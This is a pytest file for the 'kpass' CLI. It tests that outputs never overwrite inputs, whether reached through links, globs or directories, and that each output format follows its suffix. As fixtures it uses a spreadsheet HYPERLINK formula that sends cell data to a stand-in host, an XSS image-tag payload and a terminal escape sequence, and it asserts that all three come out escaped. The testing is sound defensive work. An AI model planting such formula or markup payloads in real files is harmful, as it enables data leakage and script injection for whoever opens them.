"""Inputs are sacred and the output format follows the suffix (issue #34, points 1 and 2).

Every command goes through one check (:func:`kpass.cli.output.check_outputs`, called by
:func:`kpass.cli.main`) before it reads anything: an output that resolves to an input (through
a symbolic link, ``..``, an absolute name, a hard link, a glob, a directory) is refused with one
line and exit 2, and the input's bytes are unchanged; one file named by two outputs is refused.
Each ``--output`` is written in the format of its suffix unless ``--format`` says otherwise.
"""

from __future__ import annotations

import argparse
import csv
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

import kpass
from kpass.cli import main
from kpass.cli.main import SUBCOMMANDS, build_parser
from kpass.cli.output import INPUT_OPTIONS, OTHER_PATH_OPTIONS, OUTPUT_OPTIONS
from kpass.render.escape import legend_label, plot_text

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "examples" / "sample_tables" / "two_models.jsonl"  # a 270 KB log of two models
HYPERLINK = '=HYPERLINK("http://x.invalid/?"&A1,"click"),'
MARKUP = "<img src=x onerror=alert(1)>"


@pytest.fixture(autouse=True)
def builtin_plugins_only(monkeypatch):
    monkeypatch.setenv("KPASS_LOAD_PLUGINS", "")
    kpass.reset_plugin_manager()
    yield
    kpass.reset_plugin_manager()


@pytest.fixture
def log(tmp_path) -> Path:
    path = tmp_path / "run.jsonl"
    shutil.copyfile(EXAMPLE, path)
    return path


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def run(capsys, *argv) -> tuple[int, str, str]:
    capsys.readouterr()
    code = main([str(a) for a in argv])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def refused(capsys, *argv) -> str:
    """Run a command that must be refused before reading: exit 2, one line, nothing on stdout."""
    code, out, err = run(capsys, *argv)
    lines = err.strip().splitlines()
    assert code == 2 and out == "" and len(lines) == 1 and "Traceback" not in err, (code, err)
    return lines[0]


def records(models=("base", "tuned"), n_problems=6, n=4, tokens=False):
    out = []
    for shift, model in enumerate(models):
        for j in range(n_problems):
            for s in range(n):
                row = {"model": model, "task": "t", "problem_id": f"p{j}", "sample_index": s,
                       "correct": (j + s + shift) % 3 == 0, "answer": str((j + s) % 2)}
                if tokens:
                    row.update(finished=True, output_tokens=10 + 5 * s)
                out.append(row)
    return out


def write_jsonl(path: Path, rows) -> Path:
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    return path


@pytest.fixture
def nothing_is_read(monkeypatch):
    """Reading any input fails the test: the check comes before any read."""

    def forbidden(*args, **kwargs):
        raise AssertionError("an input was read before the output check")

    monkeypatch.setattr("kpass.host.lookups.load_samples", forbidden)
    monkeypatch.setattr("kpass.host.lookups.read_samples", forbidden)
    monkeypatch.setattr("kpass.cli.leaderboard.read_leaderboard_table", forbidden)


# ----------------------------------------------------------------------------------------------
# point 1: an output that is an input is refused before anything is read


@pytest.mark.usefixtures("nothing_is_read")
def test_report_over_its_own_log_is_refused_and_the_log_kept(log, capsys):
    before = digest(log)
    line = refused(capsys, "report", log, "-o", log)
    assert line == (f"kpass report: error: --output {log} is the input {log}: kpass never writes over an input; "
                    f"choose another name")
    assert digest(log) == before and log.stat().st_size > 200_000


@pytest.mark.usefixtures("nothing_is_read")
def test_through_a_symbolic_link(log, tmp_path, capsys):
    view = tmp_path / "view.md"
    view.symlink_to(log.name)
    before = digest(log)
    line = refused(capsys, "report", log, "-o", view)
    assert f"--output {view} is the input {log} (the same file through a link)" in line
    assert digest(log) == before and view.is_symlink()


@pytest.mark.usefixtures("nothing_is_read")
@pytest.mark.parametrize("spelling", ["hard link", "dot-dot", "absolute", "relative"])
def test_every_spelling_of_the_same_file(log, tmp_path, capsys, monkeypatch, spelling):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "sub").mkdir()
    output = {"hard link": "hard.md", "dot-dot": "sub/../run.jsonl", "absolute": str(log),
              "relative": "run.jsonl"}[spelling]
    if spelling == "hard link":
        os.link(log, tmp_path / output)
    given = "run.jsonl" if spelling == "absolute" else str(log)
    before = digest(log)
    line = refused(capsys, "report", given, "-o", output)
    assert f"--output {output} is the input {given}" in line
    assert digest(log) == before


@pytest.mark.usefixtures("nothing_is_read")
def test_an_inspect_eval_log(tmp_path, capsys):
    log = tmp_path / "task.eval"
    log.write_bytes(b"PK\x03\x04" + bytes(range(256)) * 64)  # never opened: the check reads names only
    before = digest(log)
    line = refused(capsys, "report", log, "-o", log)
    assert f"--output {log} is the input {log}" in line and digest(log) == before


@pytest.mark.usefixtures("nothing_is_read")
def test_leaderboard_writes_no_output_when_one_of_them_is_an_input(tmp_path, capsys):
    table = write_jsonl(tmp_path / "table.csv", [])  # the name is an input; its content never read
    table.write_text("model,task,problem_id,sample_index,correct\n" + "".join(
        f"{r['model']},t,{r['problem_id']},{r['sample_index']},{int(r['correct'])}\n" for r in records()))
    before = digest(table)
    board = tmp_path / "board.html"
    line = refused(capsys, "leaderboard", table, "-o", board, "-o", table)
    assert f"--output {table} is the input {table}" in line
    assert digest(table) == before and not board.exists()


@pytest.mark.usefixtures("nothing_is_read")
def test_extend_table_is_an_input(tmp_path, capsys):
    samples = write_jsonl(tmp_path / "s.jsonl", records())
    existing = tmp_path / "board.md"
    existing.write_text("| model | score |\n|---|---|\n| base | 1 |\n")
    before = digest(existing)
    line = refused(capsys, "leaderboard", samples, "--extend", existing, "-o", existing)
    assert f"--output {existing} is the --extend table {existing}" in line and digest(existing) == before


@pytest.mark.usefixtures("nothing_is_read")
def test_files_matched_by_a_glob(tmp_path, capsys):
    runs = tmp_path / "runs"
    runs.mkdir()
    first = write_jsonl(runs / "a.jsonl", records())
    write_jsonl(runs / "b.jsonl", records(models=("other",)))
    before = digest(first)
    pattern = f"{runs}/*.jsonl"
    line = refused(capsys, "report", pattern, "-f", "json", "-o", first)
    assert f"--output {first} is the input {pattern} (matching {first})" in line and digest(first) == before


@pytest.mark.usefixtures("nothing_is_read")
@pytest.mark.parametrize("new", [False, True])
def test_files_inside_an_input_directory(tmp_path, capsys, new):
    dataset = tmp_path / "dataset"
    (dataset / "model=a").mkdir(parents=True)
    part = write_jsonl(dataset / "model=a" / "part-0.jsonl", records(models=("a",)))
    output = dataset / "model=a" / ("report.csv" if new else "part-0.jsonl")
    before = digest(part)
    line = refused(capsys, "report", dataset, "-f", "csv", "-o", output)
    if new:  # the next `kpass report dataset` would read report.csv as samples
        assert (f"--output {output} is inside the input directory {dataset}, where the next run would read it as "
                f"input: kpass never writes where it reads") in line
    else:
        assert f"--output {output} is {part}, read from the input directory {dataset}: kpass never" in line
    assert digest(part) == before and (output.exists() != new)


@pytest.mark.parametrize("name", ["report.md", "report.json", "README.md"])
def test_a_report_may_be_written_into_an_input_directory(tmp_path, capsys, name):
    """What no reader takes from a directory (a Markdown or JSON report, an existing README) may be
    written there: `kpass report lm_eval_out/ -o lm_eval_out/report.json`."""
    dataset = tmp_path / "dataset"
    dataset.mkdir()
    write_jsonl(dataset / "part-0.jsonl", records())
    output = dataset / name
    if name == "README.md":
        output.write_text("notes")
    code, _, err = run(capsys, "report", dataset, "--n-resamples", "50", "-o", output)
    assert code == 0, err
    assert output.read_text() != "notes" and code == run(capsys, "report", dataset, "--n-resamples", "50")[0]


@pytest.mark.usefixtures("nothing_is_read")
def test_a_hard_link_to_a_file_inside_an_input_directory(tmp_path, capsys):
    dataset = tmp_path / "dataset"
    dataset.mkdir()
    part = write_jsonl(dataset / "part-0.jsonl", records())
    outside = tmp_path / "report.md"
    os.link(part, outside)
    line = refused(capsys, "report", dataset, "-o", outside)
    assert (f"--output {outside} is {part}, read from the input directory {dataset} (the same file through a "
            f"link)") in line


@pytest.mark.usefixtures("nothing_is_read")
@pytest.mark.parametrize("beside", ["results.json", "results_2026-12-04T10-00-00.json", "gsm8k_write_out_info.json"])
def test_files_read_beside_an_input_file(tmp_path, capsys, beside):
    """The lm-eval reader opens the run's results file (and 0.3's write-out files) beside the samples
    file it is given: an output over one of them is refused; a report beside the input is not."""
    run_dir = tmp_path / "fake"
    run_dir.mkdir()
    samples = write_jsonl(run_dir / "pretrained__fake_arith_gen.jsonl", records())
    results = run_dir / beside
    results.write_text('{"results": {}}')
    before = digest(results)
    line = refused(capsys, "report", samples, "-o", results)
    assert line == (f"kpass report: error: --output {results} is {results}, which kpass reads beside the input "
                    f"{samples}: kpass never writes over an input; choose another name")
    assert digest(results) == before


def test_a_report_beside_an_input_file_may_be_written_again(tmp_path, capsys):
    samples = write_jsonl(tmp_path / "run.jsonl", records())
    for _ in range(2):
        code, _, err = run(capsys, "report", samples, "--n-resamples", "50", "-o", tmp_path / "report.json")
        assert code == 0, err


@pytest.mark.usefixtures("nothing_is_read")
def test_include_path_task_files(tmp_path, capsys):
    tasks = tmp_path / "tasks"
    tasks.mkdir()
    task = tasks / "mytask.yaml"
    task.write_text("task: mytask\n")
    samples = write_jsonl(tmp_path / "s.jsonl", records())
    line = refused(capsys, "report", samples, "--include-path", tasks, "-f", "json", "-o", task)
    assert f"--output {task} is {task}, read from the --include-path directory {tasks}" in line
    assert task.read_text() == "task: mytask\n"


def test_include_path_directory_may_hold_a_report(tmp_path, capsys):
    tasks = tmp_path / "tasks"
    tasks.mkdir()
    samples = write_jsonl(tmp_path / "s.jsonl", records())
    code, _, err = run(capsys, "report", samples, "--include-path", tasks, "--n-resamples", "50",
                       "-o", tasks / "report.md")
    assert code == 0, err  # lm-eval reads the YAML and Python files there, not a Markdown report


@pytest.mark.usefixtures("nothing_is_read")
def test_hf_tokenizer_file(tmp_path, capsys):
    samples = write_jsonl(tmp_path / "s.jsonl", records(tokens=True))
    tokenizer = tmp_path / "tokenizer.json"
    tokenizer.write_text("{}")
    line = refused(capsys, "budget", samples, "--tokenizer", f"hf:{tokenizer}", "-o", tokenizer)
    assert f"--output {tokenizer} is the --tokenizer file {tokenizer}" in line


COMMANDS = {
    "report": [], "compare": ["--baseline", "base"], "budget": ["--budgets", "20"],
    "decompose": ["--baseline", "base", "--model", "tuned", "--budgets", "20"], "leaderboard": ["--no-curves"],
    "crossover": ["--baseline", "base", "--model", "tuned"], "frontier": [], "power": ["--effect", "0.1"],
}


def _subparsers() -> dict[str, argparse.ArgumentParser]:
    parser = build_parser()
    action = next(a for a in parser._actions if isinstance(a, argparse._SubParsersAction))
    return dict(action.choices)


#: (command, output option) for every command and every option of it that writes a file
OUTPUT_CASES = [(command, OUTPUT_OPTIONS[action.dest]) for command, sub in _subparsers().items()
                for action in sub._actions if action.dest in OUTPUT_OPTIONS]


def test_the_cases_cover_every_command_that_writes():
    assert {command for command, _ in OUTPUT_CASES} == set(COMMANDS)
    assert len(OUTPUT_CASES) == 14  # --output of 8 commands, --plot of 6


@pytest.mark.usefixtures("nothing_is_read")
@pytest.mark.parametrize("command, option", OUTPUT_CASES)
def test_every_command_refuses_each_output_option_over_an_input(tmp_path, capsys, command, option):
    log = write_jsonl(tmp_path / "run.json", records(tokens=True))
    link = tmp_path / ("view.svg" if option == "--plot" else "view.json")
    link.symlink_to(log)
    before = digest(log)
    line = refused(capsys, command, log, *COMMANDS[command], option, link)
    assert line.startswith(f"kpass {command}: error: {option} {link} is the input {log}")
    assert digest(log) == before


@pytest.mark.usefixtures("nothing_is_read")
def test_the_real_console_script(log, tmp_path):
    view = tmp_path / "view.md"
    view.symlink_to(log)
    before = digest(log)
    script = Path(sys.executable).with_name("kpass")
    done = subprocess.run([str(script), "report", str(log), "-o", str(view)], capture_output=True, text=True,
                          timeout=120, env={**os.environ, "KPASS_LOAD_PLUGINS": ""})
    assert done.returncode == 2 and done.stdout == ""
    assert done.stderr.splitlines() == [
        f"kpass report: error: --output {view} is the input {log} (the same file through a link): kpass never "
        f"writes over an input; choose another name"]
    assert digest(log) == before


# the same output named twice


@pytest.mark.usefixtures("nothing_is_read")
@pytest.mark.parametrize("how", ["same name", "symbolic link", "hard link", "dot-dot"])
def test_leaderboard_output_named_twice(tmp_path, capsys, monkeypatch, how):
    monkeypatch.chdir(tmp_path)
    samples = write_jsonl(tmp_path / "s.jsonl", records())
    Path("a.md").write_text("old")
    Path("sub").mkdir()
    second = {"same name": "a.md", "symbolic link": "link.md", "hard link": "hard.md", "dot-dot": "sub/../a.md"}[how]
    if how == "symbolic link":
        Path(second).symlink_to("a.md")
    elif how == "hard link":
        os.link("a.md", second)
    line = refused(capsys, "leaderboard", samples, "-o", "a.md", "-o", second)
    assert line == (f"kpass leaderboard: error: --output a.md and --output {second} name the same file: each "
                    f"output needs its own name")
    assert Path("a.md").read_text() == "old"


@pytest.mark.usefixtures("nothing_is_read")
@pytest.mark.parametrize("command", ["report", "budget"])
def test_plot_and_output_naming_one_file(tmp_path, capsys, command):
    samples = write_jsonl(tmp_path / "s.jsonl", records(tokens=True))
    target = tmp_path / "x.svg"
    line = refused(capsys, command, samples, *COMMANDS[command], "--plot", target, "-o", target)
    assert f"--output {target} and --plot {target} name the same file" in line and not target.exists()


@pytest.mark.usefixtures("nothing_is_read")
def test_a_repeated_output_of_a_one_output_command(tmp_path, capsys):
    samples = write_jsonl(tmp_path / "s.jsonl", records())
    line = refused(capsys, "report", samples, "-o", tmp_path / "a.md", "-o", tmp_path / "b.md")
    assert f"--output is given 2 times ({tmp_path / 'a.md'}, {tmp_path / 'b.md'}); kpass report writes one output" in line


@pytest.mark.usefixtures("nothing_is_read")
@pytest.mark.parametrize("command", ["report", "leaderboard"])
def test_an_empty_output_name_is_refused_not_sent_to_stdout(tmp_path, capsys, command):
    samples = write_jsonl(tmp_path / "s.jsonl", records())
    line = refused(capsys, command, samples, "-o", "")
    assert line == f"kpass {command}: error: --output '': an empty file name; give a path (or leave the option out for stdout)"


def test_devices_are_still_outputs(tmp_path, capsys):
    samples = write_jsonl(tmp_path / "s.jsonl", records())
    code, _, err = run(capsys, "report", samples, "--n-resamples", "50", "-o", os.devnull)
    assert code == 0, err


def test_every_option_naming_a_file_is_known_to_the_check():
    """A new option that reads or writes a file must be entered in INPUT_OPTIONS or
    OUTPUT_OPTIONS (or, if neither, OTHER_PATH_OPTIONS): the check cannot protect what it
    does not know."""
    known = set(INPUT_OPTIONS) | set(OUTPUT_OPTIONS) | set(OTHER_PATH_OPTIONS)
    words = ("PATH", "FILE", "DIR", "TABLE", "PILOT")
    unknown = []
    for name, sub in _subparsers().items():
        assert name in SUBCOMMANDS
        for action in sub._actions:
            metavar = str(action.metavar or "")
            names_a_file = any(word in metavar for word in words) or action.dest in ("tokenizer", "extend")
            if names_a_file and action.dest not in known:
                unknown.append(f"kpass {name} {action.dest} ({metavar})")
    assert unknown == []


# ----------------------------------------------------------------------------------------------
# point 2: the format follows the suffix


@pytest.fixture
def hostile(tmp_path) -> Path:
    return write_jsonl(tmp_path / "hostile.jsonl", records(models=(HYPERLINK, MARKUP)))


def test_csv_suffix_writes_csv_with_formulas_neutralised(hostile, tmp_path, capsys):
    output = tmp_path / "report.csv"
    code, _, err = run(capsys, "report", hostile, "--n-resamples", "50", "-o", output)
    assert code == 0 and err.strip() == f"kpass: wrote {output}", err
    rows = list(csv.DictReader(io.StringIO(output.read_text())))
    assert {row["model"] for row in rows} == {"'" + HYPERLINK, MARKUP}
    assert all(not cell.startswith("=") for row in rows for cell in row.values())


def test_markdown_suffix_writes_escaped_markdown(hostile, tmp_path, capsys):
    output = tmp_path / "report.md"
    assert run(capsys, "report", hostile, "--n-resamples", "50", "-o", output)[0] == 0
    text = output.read_text()
    assert text.startswith("| model |") and "<img" not in text and "&lt;img src=x onerror=alert(1)>" in text


@pytest.mark.parametrize("command, extra", [("report", []), ("power", ["--effect", "0.1"]),
                                            ("budget", ["--budgets", "20"]), ("crossover", COMMANDS["crossover"]),
                                            ("leaderboard", ["--no-curves"])])
def test_json_suffix_writes_json(tmp_path, capsys, command, extra):
    samples = write_jsonl(tmp_path / "s.jsonl", records(tokens=True))
    output = tmp_path / "out.json"
    resamples = [] if command == "power" else ["--n-resamples", "50"]
    code, _, err = run(capsys, command, samples, *extra, *resamples, "-o", output)
    assert code == 0 and f"kpass: wrote {output}" in err, err
    assert isinstance(json.loads(output.read_text()), dict)


@pytest.mark.parametrize("name", ["report.txt", "report", "REPORT.TXT"])
def test_txt_or_no_suffix_writes_the_text_table(tmp_path, capsys, log, name):
    output = tmp_path / name
    code, stdout, _ = run(capsys, "report", log, "-m", "pass@1", "--n-resamples", "50")
    assert run(capsys, "report", log, "-m", "pass@1", "--n-resamples", "50", "-o", output)[0] == 0
    assert output.read_text() == stdout and stdout.startswith("model  task")


def test_format_decides_for_a_text_suffix_and_an_unknown_one(tmp_path, capsys, log):
    for name, fmt in (("out.txt", "json"), ("out.tsv", "csv"), ("out", "markdown")):
        output = tmp_path / name
        assert run(capsys, "report", log, "-m", "pass@1", "--n-resamples", "50", "-f", fmt, "-o", output)[0] == 0
        text = output.read_text()
        assert {"json": text.startswith("{"), "csv": text.startswith("model,task,"),
                "markdown": text.startswith("| model |")}[fmt]


@pytest.mark.usefixtures("nothing_is_read")
@pytest.mark.parametrize("command, fmt, name, message", [
    ("report", "csv", "x.md", "--format csv contradicts --output {path} (a .md file is Markdown): drop --format or "
                              "change the suffix"),
    ("report", "table", "x.csv", "--format table contradicts --output {path} (a .csv file is CSV)"),
    ("leaderboard", "json", "x.html", "--format json contradicts --output {path} (a .html file is HTML)"),
    ("report", None, "x.xlsx", "--output {path}: cannot tell the format from the suffix .xlsx; use .txt, .md, .csv, "
                               ".json (or no suffix), or give --format"),
    ("leaderboard", None, "x.txt.gz", "--output {path}: cannot tell the format from the suffix .gz; use .txt, .md, "
                                      ".csv, .json, .html (or no suffix), or give --format"),
    ("report", None, "x.html", "--output {path}: kpass report does not write HTML; it writes a plain-text table, "
                               "Markdown, CSV, JSON"),
    ("report", None, "x.png", "--output {path}: kpass report writes tables, not images; draw a plot with --plot {path}"),
    ("power", None, "x.svg", "--output {path}: kpass power writes tables, not images"),
])
def test_suffix_contradictions_are_usage_errors(tmp_path, capsys, command, fmt, name, message):
    samples = write_jsonl(tmp_path / "s.jsonl", records())
    path = tmp_path / name
    extra = ["--effect", "0.1"] if command == "power" else []
    line = refused(capsys, command, samples, *extra, *(["-f", fmt] if fmt else []), "-o", path)
    assert line.startswith(f"kpass {command}: error: ") and message.format(path=path) in line
    assert not path.exists()


def test_leaderboard_writes_each_suffix_in_its_format(tmp_path, capsys):
    samples = write_jsonl(tmp_path / "s.jsonl", records(models=(HYPERLINK, MARKUP)))
    outputs = {suffix: tmp_path / f"board{suffix}" for suffix in (".md", ".csv", ".json", ".html", ".txt")}
    code, out, err = run(capsys, "leaderboard", samples, "--no-curves", "--n-resamples", "50",
                         *[x for path in outputs.values() for x in ("-o", path)])
    assert code == 0 and out == "", err
    assert outputs[".txt"].read_text() == outputs[".md"].read_text()  # its stdout format: Markdown
    assert "'" + HYPERLINK in [cell for row in csv.reader(io.StringIO(outputs[".csv"].read_text())) for cell in row]
    assert {entry["model"] for entry in json.loads(outputs[".json"].read_text())["models"]} == {HYPERLINK, MARKUP}
    assert outputs[".html"].read_text().startswith("<!DOCTYPE html>")


# plot labels are plain text


def svg_texts(path: Path) -> list[str]:
    import re
    from html import unescape

    return [unescape(text) for text in re.findall(r"<text[^>]*>([^<]*)</text>", path.read_text())]


@pytest.mark.parametrize("command", ["report", "compare", "budget"])
def test_plot_labels_are_drawn_as_written(tmp_path, capsys, command):
    import matplotlib
    names = ("cost $5 and $6", "$\\foo{$")
    samples = write_jsonl(tmp_path / "s.jsonl", records(models=names, tokens=True))
    extra = {"report": ["-m", "pass@1,2", "pass^2"], "compare": ["--baseline", names[0]],
             "budget": ["--budgets", "15,20"]}[command]
    plot = tmp_path / "plot.svg"
    with matplotlib.rc_context({"svg.fonttype": "none"}):  # text as <text>, so the test can read it
        code, _, err = run(capsys, command, samples, *extra, "--n-resamples", "50", "--plot", plot)
    assert code == 0 and "Traceback" not in err, err
    texts = " ".join(svg_texts(plot))
    wanted = {"report": names, "compare": names[1:], "budget": names}[command]
    for name in wanted:
        assert name in texts


def test_a_lone_surrogate_in_a_name_is_written_escaped(tmp_path, capsys):
    samples = tmp_path / "s.jsonl"
    samples.write_text("".join(json.dumps(row) + "\n" for row in records(models=("bad\ud800name", "good"))))
    code, _, err = run(capsys, "report", samples, "--engine", "numpy", "--n-resamples", "50",
                       "--plot", tmp_path / "p.png", "-o", tmp_path / "r.csv")
    assert code == 0, err
    assert "bad\\ud800name" in (tmp_path / "r.csv").read_text()


def test_plot_text_escapes_mathtext():
    from matplotlib.text import Text

    for name in ("cost $5 and $6", "$\\foo{$", "a\\$b", "$$", "plain"):
        text = Text(text=plot_text(name))
        shown, math = text._preprocess_math(text.get_text())
        assert (shown, math) == (name, False)
    assert legend_label("_hidden") == " _hidden" and legend_label("a$b$") == "a\\$b\\$"


def test_power_notes_follow_the_medium(tmp_path, capsys):
    """The pilot's task names reach kpass power's notes: escaped in Markdown and in text."""
    rows = [dict(row, task=task) for task in (MARKUP, "evil\x1b[2J") for row in records()]
    samples = write_jsonl(tmp_path / "pilot.jsonl", rows)
    markdown, text = tmp_path / "power.md", tmp_path / "power.txt"
    for output in (markdown, text):
        code, _, err = run(capsys, "power", samples, "--effect", "0.2", "-o", output)
        assert code == 0, err
    assert "<img" not in markdown.read_text() and "&lt;img src=x onerror=alert(1)>" in markdown.read_text()
    assert "\x1b" not in text.read_text() and "evil\\x1b[2J" in text.read_text()
